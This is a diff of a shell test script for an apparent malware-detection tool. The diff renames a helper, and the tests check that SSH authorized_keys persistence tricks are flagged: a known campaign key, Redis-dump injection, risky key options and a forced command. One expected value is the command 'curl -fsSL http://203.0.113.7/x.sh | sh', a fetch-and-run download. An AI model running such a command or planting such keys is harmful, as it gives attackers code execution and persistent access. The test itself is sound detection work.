@@ -46,7 +46,7 @@ rm -rf "$STAGE"
 expect_valid_json
 
 keys='.file.path == "/root/.ssh/authorized_keys" and .rule.id == "MW-PERSIST-003"'
-finding() {
+key_finding() {
 	local line
 	line=$(jq -c "select($keys and ($1))" "$OUT" | head -n 1)
 	if [ -n "$line" ]; then
@@ -57,19 +57,19 @@ finding() {
 	fi
 }
 [ -n "$fp_outlaw" ] || fail "ssh-keygen gave no fingerprint"
-finding ".minerwatch.triage.key.fingerprint == \"$fp_outlaw\" and .event.severity >= 85 and (.rule.name | test(\"campaign\"))" \
+key_finding ".minerwatch.triage.key.fingerprint == \"$fp_outlaw\" and .event.severity >= 85 and (.rule.name | test(\"campaign\"))" \
 	"the mdrfckr key, by its comment, with ssh-keygen's fingerprint" >/dev/null
-line=$(finding '.minerwatch.triage.line_number == 2 and (.rule.name | test("no key"))' "the Redis dump bytes around the keys")
+line=$(key_finding '.minerwatch.triage.line_number == 2 and (.rule.name | test("no key"))' "the Redis dump bytes around the keys")
 [ -n "$line" ] && expect "$line" '.minerwatch.triage.line | startswith("REDIS0009")' "the line, escaped, in the finding"
-line=$(finding ".minerwatch.triage.key.fingerprint == \"$fp_env\" and (.rule.name | test(\"unusual options\"))" \
+line=$(key_finding ".minerwatch.triage.key.fingerprint == \"$fp_env\" and (.rule.name | test(\"unusual options\"))" \
 	"environment= and from= options")
 [ -n "$line" ] && expect "$line" '.event.severity >= 70 and (.message | test("environment")) and (.message | test("pinned to an address"))' \
 	"both options named, environment= weighs most"
-line=$(finding ".minerwatch.triage.key.fingerprint == \"$fp_cmd\" and (.rule.name | test(\"forced command\"))" "a forced command")
+line=$(key_finding ".minerwatch.triage.key.fingerprint == \"$fp_cmd\" and (.rule.name | test(\"forced command\"))" "a forced command")
 [ -n "$line" ] && expect "$line" '.process.command_line == "curl -fsSL http://203.0.113.7/x.sh | sh" and (.minerwatch.triage.reasons | test("download piped into a shell")) and .event.severity >= 85' \
 	"the command judged as any command (download piped into a shell)"
 n=$(jq -c "select($keys and .minerwatch.triage.key.fingerprint == \"$fp_plain\" and .minerwatch.triage.keys == null)" "$OUT" | wc -l)
 [ -n "$fp_plain" ] && [ "$n" -eq 0 ] && ok "the ordinary key: no finding of its own" || fail "the ordinary key was reported ($n)"
-finding ".minerwatch.triage.keys == 4 and .minerwatch.triage.key.fingerprint == \"$fp_plain\"" \
+key_finding ".minerwatch.triage.keys == 4 and .minerwatch.triage.key.fingerprint == \"$fp_plain\"" \
 	"changed after install: 4 keys, the last named by its fingerprint" >/dev/null
 finish
